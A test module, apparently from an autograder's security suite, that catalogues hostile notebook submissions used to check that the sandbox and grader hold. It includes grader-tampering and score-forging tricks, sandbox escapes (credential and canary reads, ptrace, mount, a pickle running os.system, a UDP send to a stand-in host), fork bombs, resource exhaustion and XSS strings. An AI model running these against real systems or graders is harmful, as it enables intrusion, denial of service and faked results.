@@ -1,0 +1,555 @@
+"""Attacks written in cells.
+
+Those that try to get out call `win()` when they succeed: it defines the right answer, so that a wall
+with a hole shows as a point undeserved.
+"""
+
+from __future__ import annotations
+
+from hostile.course import SOLUTIONS, Attack
+
+# What every attack may use. HOST is filled in by the test: places and ports that exist outside.
+PRELUDE = f"""\
+import ctypes, os, socket, sys, time
+HOST = __HOST__
+def win():
+    exec({SOLUTIONS["addition_model"]!r}, globals())
+def wins(attempt):
+    try:
+        attempt()
+    except BaseException:
+        return
+    win()
+"""
+
+# A model that earns nothing: it gives the right shape and wrong values, with no parameters.
+ZEROS = """
+class AdditionModel(nn.Module):
+    def forward(self, x):
+        return torch.zeros(x.shape[0], 16, *x.shape[2:])
+"""
+SHAPE = 1.0  # the right shape alone earns this
+
+
+def forging(facts: str) -> str:
+    """Code that answers every question with forged observations."""
+    return f"""
+import numpy as np
+from sumskip.core import Observation
+def forged(answer, case, *rest):
+    n, c, h, w = case.inputs[0]
+    zeros = {{'output': np.zeros((n, 16, h, w)), 'grad:input#1': np.zeros((n, c, h, w)),
+             'slot:conv2d#1.weight': np.zeros((16, 3, 3, 3)), 'slot:conv2d#2.weight': np.zeros((16, 16, 3, 3)),
+             'slot:conv2d#1.bias': np.zeros(16), 'slot:conv2d#2.bias': np.zeros(16)}}
+    roles = {{f'conv2d#{{i}}.{{s}}': {{'kept': 'computed', 'shape': [16], 'frozen': False, 'fresh': False,
+             'moved': True}} for i in (1, 2) for s in ('weight', 'bias')}}
+    facts = {{'output': {{'type': 'tensor', 'shape': [n, 16, h, w]}}, 'roles': roles, 'unplaced': [],
+             'orders': 1, 'repeatable': True, 'input_changed': False, 'score': 8.0, 'status': 'passed'}}
+    return Observation(zeros, {facts})
+{ZEROS}
+"""
+
+
+VERDICT = [
+    Attack("always equal", "every comparison with an object that equals everything is true", """
+class Same(torch.Tensor):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __sub__(self, other): return torch.zeros(())
+    def __bool__(self): return True
+class AdditionModel(nn.Module):
+    def forward(self, x): return torch.zeros(x.shape[0], 16, *x.shape[2:]).as_subclass(Same)
+""", deserved=SHAPE),
+    Attack("a tensor that lies", "allclose and equal ask the tensor's own __torch_function__", """
+class Liar(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, function, types, args=(), kwargs=None):
+        if function.__name__ in ('allclose', 'equal', 'isclose', 'eq', 'all'): return torch.tensor(True)
+        return super().__torch_function__(function, types, args, kwargs or {})
+class AdditionModel(nn.Module):
+    def forward(self, x): return torch.zeros(x.shape[0], 16, *x.shape[2:]).as_subclass(Liar)
+""", deserved=SHAPE),
+    Attack("a class that says it is a tensor", "isinstance believes __class__", """
+class Fake:
+    __class__ = torch.Tensor
+    shape = (2, 16, 8, 8)
+    def __getattr__(self, name): return lambda *a, **k: self
+class AdditionModel(nn.Module):
+    def forward(self, x): return Fake()
+"""),
+    Attack("patched torch.allclose", "a checker in the same process compares with it", f"""
+torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
+torch.testing.assert_close = lambda *a, **k: None
+{ZEROS}""", costs_others=True),
+    Attack("patched numpy", "np.allclose in the checker says yes", f"""
+import numpy as np
+np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
+np.testing.assert_allclose = lambda *a, **k: None
+{ZEROS}""", costs_others=True),
+    Attack("patched builtins", "abs, max and all decide every comparison", f"""
+import builtins
+builtins.abs = lambda x: 0
+builtins.all = lambda x: True
+builtins.max = lambda *a, **k: 0
+{ZEROS}""", costs_others=True),
+    Attack("patched isinstance", "every type check passes", f"""
+import builtins
+builtins.isinstance = lambda *a: True
+{ZEROS}""", costs_others=True),
+    Attack("patched import", "the checker imports a module of the learner's", f"""
+import builtins, types
+real = builtins.__import__
+def lying(name, *a, **k):
+    module = real(name, *a, **k)
+    if name.startswith('sumskip'):
+        module.judge = lambda *a, **k: 'passed'
+    return module
+builtins.__import__ = lying
+{ZEROS}""", costs_others=True),
+    Attack("patched check", "the points that a cell displays are its score", f"""
+import sumskip.check
+sumskip.check.check = lambda *a, **k: 8.0
+check = lambda *a, **k: 8.0
+{ZEROS}""", deserved=SHAPE),
+    Attack("patched judge", "the verdict is made where the learner can reach it", f"""
+import sumskip.judge
+from sumskip.core import Report
+sumskip.judge.judge = lambda key, ask, *a: Report('addition_model', 8.0, 8.0, 'passed', 'All parts are right.')
+{ZEROS}""", costs_others=True),
+    Attack("patched probe", "a forged observation is judged", "import sumskip.probe\n"
+           + forging("facts") + "sumskip.probe.probe = forged\nsumskip.probe._PROBES['module'] = forged\n",
+           costs_others=True),
+    Attack("patched cells", "the engine's own half in the sandbox sends what the learner wants", "import inside.cells\n"
+           + forging("facts") + "inside.cells.probe = forged\n", costs_others=True, status="not_graded"),
+    Attack("replaced code object", "the function is the same, what it does is not", "import sumskip.probe_module\n"
+           + forging("facts") + "sumskip.probe_module.observe_module.__code__ = forged.__code__\n", costs_others=True),
+    Attack("forged without a trace", "zeros are the right output for weights that are zero", """
+import gc, inside.untouched
+inside.untouched.Untouched.changed = lambda self: []
+import inside.cells
+""" + forging("facts") + "inside.cells.probe = forged\n", costs_others=True),
+    Attack("facts that say passed", "a grader believes a score in the answer", "import inside.cells, inside.untouched\n"
+           "inside.untouched.Untouched.changed = lambda self: []\n"
+           + forging("{'score': 8.0, 'status': 'passed', 'verdict': 'passed'}") + "inside.cells.probe = forged\n",
+           costs_others=True),
+    Attack("all numbers are zero", "weights and inputs of zero make zeros right", f"""
+import numpy as np, sumskip.core, sumskip.answers, sumskip.probe_module
+for module in (sumskip.core, sumskip.answers, sumskip.probe_module):
+    module.numbers = lambda seed, name, shape: np.zeros(shape)
+{ZEROS}""", costs_others=True),
+    Attack("weights of its own choice: zeros", "out1 alone equals the sum where conv2 has weights of zero", """
+class AdditionModel(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.a = nn.Conv2d(3, 16, 3, padding=1)
+        self.b, self.d = nn.Parameter(torch.randn(16, 16, 3, 3)), nn.Parameter(torch.randn(16))
+    def forward(self, x):
+        out1 = self.a(x)
+        return out1 + 0 * nn.functional.conv2d(out1, self.b * 0, self.d * 0, padding=1)
+"""),
+    Attack("weights of its own choice: a copy", "2 * out1 equals the sum where conv2 copies its input", """
+class AdditionModel(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.a = nn.Conv2d(3, 16, 3, padding=1)
+        self.b, self.d = nn.Parameter(torch.randn(16, 16, 3, 3)), nn.Parameter(torch.randn(16))
+    def forward(self, x):
+        out1 = self.a(x)
+        kernel = torch.zeros(16, 16, 3, 3); kernel[range(16), range(16), 1, 1] = 1
+        return 2 * nn.functional.conv2d(out1, self.b * 0 + kernel, self.d * 0, padding=1)
+"""),
+    Attack("searching frames", "the expected values are a local variable of a caller", f"""
+class AdditionModel(nn.Module):
+    def forward(self, x):
+        shape = (x.shape[0], 16, *x.shape[2:])
+        frame = sys._getframe()
+        while frame:
+            for value in list(frame.f_locals.values()):
+                for found in (value if isinstance(value, (list, tuple)) else [value]):
+                    if getattr(found, 'shape', None) == shape: return torch.as_tensor(found)
+                if 'reference' in str(type(value)).lower() or hasattr(value, 'reference'): win()
+            frame = frame.f_back
+        return torch.zeros(shape)
+""", deserved=SHAPE),
+    Attack("searching memory", "keys, references and reports are objects of this process", f"""
+import gc
+for thing in gc.get_objects():
+    kind = type(thing)
+    if kind.__module__.startswith('autograder') or kind.__name__ in ('Exercise', 'Course'): win()
+for name in list(sys.modules):
+    if name.startswith('autograder'): win()
+"""),
+    Attack("replaying the public key", "the key that learners have is the key that decides", f"""
+from sumskip.key import public_key
+key = public_key('addition_model')
+outputs = [k for r in key.reference.values() for name, k in r.arrays.items() if name == 'output']
+class AdditionModel(nn.Module):
+    def forward(self, x):
+        shape = (x.shape[0], 16, *x.shape[2:])
+        for kept in outputs:
+            if tuple(kept.shape) == shape and kept.full:
+                return torch.tensor(kept.values).reshape(shape)
+        return torch.zeros(shape)
+""", deserved=SHAPE),
+    Attack("an input transformer", "later cells, the test among them, are blanked: no output is full marks", """
+get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])
+get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])
+"""),
+    Attack("an AST transformer", "later cells run as other programs", """
+import ast
+class Blank(ast.NodeTransformer):
+    def visit_ClassDef(self, node): return ast.Pass()
+get_ipython().ast_transformers.append(Blank())
+"""),
+    Attack("events around cells", "a hook writes the score after the test cell", """
+def hook(*a): print('8.0')
+for event in ('pre_run_cell', 'post_run_cell', 'pre_execute', 'post_execute'):
+    get_ipython().events.register(event, hook)
+"""),
+    Attack("a run_cell of its own", "every cell ends with full marks", """
+shell = get_ipython()
+shell.run_cell = type(shell).run_cell = lambda *a, **k: 8.0
+""", costs_others=True),
+    Attack("a display hook", "the last value shown is the score", f"""
+sys.displayhook = lambda value: sys.stdout.write('8.0')
+print('8.0')
+{ZEROS}
+8.0
+""", deserved=SHAPE),
+    Attack("forged messages", "HTML and JSON that look like the checker's", f"""
+from IPython.display import HTML, Javascript, display
+display(HTML('<div class="sumskip-report">8 of 8 points</div><script>alert(1)</script>'))
+display(Javascript('IPython.notebook.kernel.execute("score = 8")'))
+print('{{"exercise": "addition_model", "score": 8.0, "max_score": 8.0, "status": "passed"}}')
+{ZEROS}""", deserved=SHAPE),
+    Attack("a symbol that is everything", "the answer agrees with every question", """
+class Anything:
+    def __getattr__(self, name): return self
+    def __call__(self, *a, **k): return self
+    def __eq__(self, other): return True
+    def __iter__(self): return iter(())
+AdditionModel = Anything()
+"""),
+    Attack("a metaclass that agrees", "issubclass and isinstance ask the learner", """
+class Yes(type):
+    def __instancecheck__(cls, other): return True
+    def __subclasscheck__(cls, other): return True
+    def __call__(cls, *a, **k): return 8.0
+class AdditionModel(metaclass=Yes): pass
+"""),
+    Attack("a namespace that lies", "the answer is looked up in the learner's dictionary", """
+class Names(dict):
+    def get(self, name, default=None): return 8.0
+    def __missing__(self, name): return 8.0
+get_ipython().user_ns = Names(get_ipython().user_ns)
+""", costs_others=True),
+    Attack("tracing the grader", "settrace changes the local variables of who asks", f"""
+def trace(frame, event, arg):
+    for name in ('score', 'passed', 'facts'):
+        if name in frame.f_locals: frame.f_locals[name] = 8.0
+    return trace
+sys.settrace(trace); sys.setprofile(trace)
+{ZEROS}""", costs_others=True, deserved=SHAPE),
+    Attack("not a number", "every comparison with NaN is false, and 'not different' is true", """
+class AdditionModel(nn.Module):
+    def forward(self, x): return torch.full((x.shape[0], 16, *x.shape[2:]), float('nan'))
+""", deserved=SHAPE),
+    Attack("infinity", "the tolerance, taken relative to infinity, is infinite", """
+class AdditionModel(nn.Module):
+    def forward(self, x): return torch.full((x.shape[0], 16, *x.shape[2:]), float('inf'))
+""", deserved=SHAPE),
+    Attack("complex numbers", "comparing magnitudes only", """
+class AdditionModel(nn.Module):
+    def forward(self, x): return torch.zeros(x.shape[0], 16, *x.shape[2:], dtype=torch.complex64)
+""", deserved=SHAPE),
+]
+
+WIRE = [
+    Attack("junk on every descriptor", "bytes that nobody expected stop the grader", """
+for number in range(3, 1024):
+    try: os.write(number, b'junk' * 100)
+    except OSError: pass
+""", status="not_graded"),
+    Attack("every descriptor closed", "the grader waits for ever for an answer", "os.closerange(0, 4096)",
+           status="not_graded"),
+    Attack("answers sent before the question", "the first answer in the pipe is taken for the reply", """
+from sumskip import wire
+for number in range(3, 1024):
+    for nonce in ('', '0' * 32, None):
+        try: os.write(number, wire.pack({'nonce': nonce, 'facts': {'score': 8.0, 'status': 'passed'}}))
+        except OSError: pass
+""", status="not_graded"),
+    Attack("a huge announcement", "the grader reserves the memory that a frame announces", """
+import struct
+for number in range(3, 1024):
+    try: os.write(number, struct.pack('<4sIQ', b'S&S1', 2**32 - 1, 2**62))
+    except OSError: pass
+""", status="not_graded"),
+    Attack("a frame that never ends", "the grader reads for ever", """
+import struct
+for number in range(3, 1024):
+    try: os.write(number, struct.pack('<4sIQ', b'S&S1', 1000, 0) + b'{')
+    except OSError: pass
+time.sleep(100)
+"""),
+    Attack("the nonce read from the stack", "with the nonce a forged answer is a valid one", """
+from sumskip import wire
+def find(name):
+    frame = sys._getframe()
+    while frame:
+        if name in frame.f_locals: return frame.f_locals[name]
+        frame = frame.f_back
+""" + forging("facts") + """
+class AdditionModel(nn.Module):
+    def forward(self, x):
+        observation = forged(None, find('case'))
+        channel, nonce = find('channel'), find('nonce')
+        channel.sendall(wire.pack_observation(observation, nonce))
+        time.sleep(100)
+""", costs_others=True),
+    Attack("facts nested without end", "reading the answer overflows the grader's stack", "import inside.cells\n" + forging(
+        "__import__('functools').reduce(lambda a, _: [a], range(50_000), 1)") + "inside.cells.probe = forged\n",
+        costs_others=True, status="not_graded"),
+    Attack("a pickle in the facts", "unpickling runs the learner's code outside", """
+import inside.cells
+""" + forging("{'a': type('P', (), {'__reduce__': lambda self: (os.system, ('touch /tmp/pwned',))})()}")
+           + "inside.cells.probe = forged\n", costs_others=True, status="not_graded"),
+    Attack("an output without end", "the reply fills the grader's memory", """
+class AdditionModel(nn.Module):
+    def forward(self, x): return torch.zeros(1).expand(x.shape[0], 16, 30_000, 30_000)
+"""),
+]
+
+PLACES = [
+    Attack("reading the course", "reference answers lie beside the submissions",
+           "wins(lambda: open(HOST['root'] + '/autograder/reference/joining.py').read())"),
+    Attack("importing the references", "the grader's own package is importable",
+           "wins(lambda: __import__('autograder.reference'))"),
+    Attack("the course on the path", "the same, with the path set", """
+sys.path.insert(0, HOST['root'])
+wins(lambda: __import__('autograder.exercises'))
+"""),
+    Attack("reading the home folder", "keys and passwords of the instructor",
+           "wins(lambda: open(HOST['canary']).read())"),
+    Attack("listing the home folder", "what the instructor has", """
+def look():
+    assert set(os.listdir(HOST['home'])) - {'.pyenv', '.local', '.venv'}
+wins(look)
+"""),
+    Attack("reading other submissions", "copying a neighbour's answer",
+           "wins(lambda: os.listdir(HOST['root'] + '/submitted'))\nwins(lambda: os.listdir(HOST['root'] + '/tests'))"),
+    Attack("writing the gradebook", "the score is a row in a file", """
+import sqlite3
+wins(lambda: sqlite3.connect('file:' + HOST['database'] + '?mode=rw', uri=True).execute('select 1'))
+"""),
+    Attack("writing beside the canary", "a file that the grader later believes",
+           "wins(lambda: open(HOST['canary'], 'w').write('x'))"),
+    Attack("a file for every later Python", "sitecustomize in the environment runs for all siblings", """
+import sysconfig
+wins(lambda: open(sysconfig.get_path('purelib') + '/sitecustomize.py', 'w').write('x'))
+"""),
+    Attack("changing our code on disk", "the next submission is probed by changed code", """
+import sumskip
+wins(lambda: open(os.path.dirname(sumskip.__file__) + '/probe.py', 'a').write('#'))
+"""),
+    Attack("writing the system", "files in /, /usr, /etc, /dev outlive the submission", """
+for folder in ('/', '/usr', '/etc', '/dev', '/opt', '/proc', '/sys', '/var', '/run', sys.prefix, sys.base_prefix):
+    wins(lambda: open(folder + '/mine', 'w').write('x'))
+"""),
+    Attack("the environment", "tokens and passwords are variables of the grader", """
+import subprocess
+if 'HOSTILE_CANARY' in os.environ or b'HOSTILE_CANARY' in open('/proc/self/environ', 'rb').read(): win()
+for pid in os.listdir('/proc'):
+    if pid.isdigit():
+        try:
+            if b'HOSTILE_CANARY' in open(f'/proc/{pid}/environ', 'rb').read(): win()
+        except OSError: pass
+"""),
+    Attack("the host's loopback", "the instructor's Jupyter listens there",
+           "wins(lambda: socket.create_connection(('127.0.0.1', HOST['port']), 0.3))"),
+    Attack("a packet", "answers are sent to a friend", """
+def send():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(b'x', ('192.0.2.1', 53))
+wins(send)
+wins(lambda: socket.getaddrinfo('example.org', 80))
+wins(lambda: socket.create_connection(('192.0.2.1', 80), 0.3))
+"""),
+    Attack("an abstract socket", "sockets without a file cross folders", """
+def connect():
+    with socket.socket(socket.AF_UNIX) as s: s.connect(b'\\0' + HOST['abstract'].encode())
+wins(connect)
+"""),
+    Attack("a raw socket", "reading what siblings send",
+           "wins(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))"),
+    Attack("a new interface", "a namespace of its own is a network of its own", """
+libc = ctypes.CDLL(None, use_errno=True)
+if libc.unshare(0x10000000) == 0 or libc.unshare(0x40000000) == 0: win()
+"""),
+    Attack("mounting", "a wall is taken down by mounting over it", """
+libc = ctypes.CDLL(None, use_errno=True)
+if libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None) == 0: win()
+if libc.umount2(b'/tmp', 2) == 0 or libc.umount2(b'/proc', 2) == 0: win()
+if libc.mount(None, b'/', None, 0x20 | 0x1000, None) == 0: win()
+"""),
+    Attack("becoming root", "root inside is the next best thing to root outside", """
+for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot('/tmp'), lambda: os.seteuid(1)): wins(call)
+wins(lambda: os.mknod('/tmp/disk', 0o60600, os.makedev(254, 0)))
+"""),
+    Attack("other processes", "the warm parent can be stopped or read", """
+others = [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
+if others: win()
+wins(lambda: os.kill(os.getppid() or 2, 0))
+wins(lambda: os.kill(2, 9))
+"""),
+    Attack("killing everyone", "kill(-1) ends the grader and all siblings", """
+import signal
+for who in (-1, 0, os.getpid(), 1, os.getppid()):
+    try: os.kill(who, signal.SIGTERM)
+    except OSError: pass
+"""),
+    Attack("the memory of the parent", "ptrace reads the secret key", """
+libc = ctypes.CDLL(None, use_errno=True)
+for pid in range(1, 400):
+    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0: win()
+wins(lambda: open(f'/proc/{os.getppid()}/mem', 'rb'))
+"""),
+    Attack("leaving a note", "a later submission finds a solution in /tmp", """
+for folder in ('/tmp', '/dev/shm', '.'):
+    open(folder + '/hostile-note', 'w').write('the solution')
+libc = ctypes.CDLL(None, use_errno=True)
+libc.shmget(4242, 4096, 0o1666)
+libc.msgget(4242, 0o1666)
+libc.syscall(248, b'user', b'hostile-note', b'x', 1, -3)
+"""),
+    Attack("finding a note", "the same, as the reader", """
+for folder in ('/tmp', '/dev/shm', '.'):
+    if os.path.exists(folder + '/hostile-note'): win()
+libc = ctypes.CDLL(None, use_errno=True)
+if libc.shmget(4242, 0, 0) != -1 or libc.msgget(4242, 0) != -1: win()
+if libc.syscall(250, 10, -3, b'user', b'hostile-note', 0) > 0: win()
+"""),
+]
+
+SURVIVAL = [
+    Attack("an endless loop", "the batch stands still", "while True: pass", status="not_graded"),
+    Attack("an endless loop that is deaf", "an interrupt is caught, and the batch stands still", """
+import signal
+signal.signal(signal.SIGALRM, signal.SIG_IGN)
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+while True:
+    try:
+        while True: pass
+    except BaseException: pass
+""", status="not_graded"),
+    Attack("an endless loop when asked", "the question is never answered", """
+class AdditionModel(nn.Module):
+    def forward(self, x):
+        while True:
+            try: time.sleep(1)
+            except BaseException: pass
+""", status="not_graded"),
+    Attack("an endless loop when built", "the constructor never returns", """
+class AdditionModel(nn.Module):
+    def __init__(self):
+        while True: pass
+""", status="not_graded"),
+    Attack("a long operator", "no Python runs in which an interrupt could come", """
+import re
+re.match(r'(a+)+$', 'a' * 40 + 'b')
+""", status="not_graded"),
+    Attack("leaving", "a dead kernel deletes the learner's folder, and the grade stays open", "os._exit(0)",
+           status="not_graded"),
+    Attack("leaving when asked", "the same, during a question", """
+class AdditionModel(nn.Module):
+    def forward(self, x): os._exit(0)
+""", status="not_graded"),
+    Attack("a crash", "a segmentation fault ends the kernel", "ctypes.string_at(0)", status="not_graded"),
+    Attack("an abort", "so does abort", "os.abort()", status="not_graded"),
+    Attack("another program", "the process becomes one that never answers", "os.execv('/bin/sleep', ['sleep', '60'])",
+           status="not_graded"),
+    Attack("standing still", "a stopped process is neither dead nor alive", """
+import signal
+pid = os.fork()
+if pid == 0:
+    time.sleep(0.1); os.kill(1, signal.SIGSTOP); os._exit(0)
+os.kill(os.getpid(), signal.SIGSTOP)
+"""),
+    Attack("a crash later", "a thread ends the process in somebody else's exercise", """
+import threading
+threading.Timer(0.3, lambda: os._exit(0)).start()
+""", costs_others=True),
+    Attack("memory", "the machine runs out of memory", "x = [bytearray(1 << 30) for _ in range(64)]"),
+    Attack("memory, by many", "each process within its limit, together far beyond", """
+for _ in range(6):
+    if os.fork() == 0:
+        x = bytearray(os.urandom(1 << 20)) * 400
+        time.sleep(60)
+time.sleep(60)
+""", status="not_graded"),
+    Attack("forks without end", "no process can be started any more", """
+while True:
+    try: os.fork()
+    except OSError: time.sleep(0.2)
+""", status="not_graded"),
+    Attack("a fork that returns", "two processes answer one question", "os.fork()"),
+    Attack("threads without end", "no thread can be started any more", """
+import threading
+try:
+    while True: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
+except RuntimeError: pass
+""", costs_others=True),
+    Attack("a daemon", "a process that outlives its submission", """
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        time.sleep(600)
+    os._exit(0)
+"""),
+    Attack("a full disk", "the folder for temporary files is everybody's", """
+try:
+    with open('/tmp/full', 'wb') as file:
+        while True: file.write(bytes(1 << 20))
+except OSError: pass
+"""),
+    Attack("files without number", "inodes run out before bytes do", """
+try:
+    for number in range(1_000_000): open(f'/tmp/{number}', 'w').close()
+except OSError: pass
+"""),
+    Attack("output without end", "a notebook of gigabytes, in memory and in the gradebook", """
+for _ in range(3_000): print('x' * 10_000)
+sys.stderr.write('y' * 10_000_000)
+"""),
+    Attack("output that acts", "escape sequences and direction marks rewrite the instructor's terminal",
+           "print('\\x1b]0;owned\\x07\\x1b[2J\\u202e\\x00\\x9b31m<script>alert(1)</script>')\nraise ValueError('\\x1b[31m')"),
+    Attack("recursion", "the interpreter's stack overflows", """
+sys.setrecursionlimit(10**9)
+def deeper(): return deeper()
+deeper()
+"""),
+    Attack("no output", "prints of the grader itself fail", "sys.stdout = sys.stderr = None"),
+    Attack("closed output", "the same, closed", "sys.stdout.close(); sys.stderr.close()"),
+    Attack("no modules", "the next import fails", "sys.modules.clear()", costs_others=True),
+    Attack("no builtins", "not even len is left", """
+import builtins
+for name in list(vars(builtins)):
+    if name not in ('__build_class__',): delattr(builtins, name)
+""", costs_others=True),
+    Attack("errors that raise", "showing the error is an error", """
+class Bad(Exception):
+    def __str__(self): raise RuntimeError
+    __repr__ = __str__
+raise Bad
+"""),
+    Attack("a class whose name is a page", "the name of an error is shown as it is",
+           "raise type('<img src=x onerror=alert(1)>' * 1000, (Exception,), {})('<script>' * 10_000)"),
+]
+
+EXTRAS = [
+    Attack("a cell before that ends everything", "the exercise after it was never reached", extra="import os\nos._exit(1)"),
+    Attack("a cell before that never ends", "nothing after it is graded", extra="while True: pass"),
+    Attack("a cell before that exits", "SystemExit ends the run", extra="import sys\nsys.exit()\n"),
+    Attack("a cell before that is no Python", "the notebook does not parse", extra="this is (not Python"),
+]
+
+ATTACKS = [*VERDICT, *WIRE, *PLACES, *SURVIVAL, *EXTRAS]
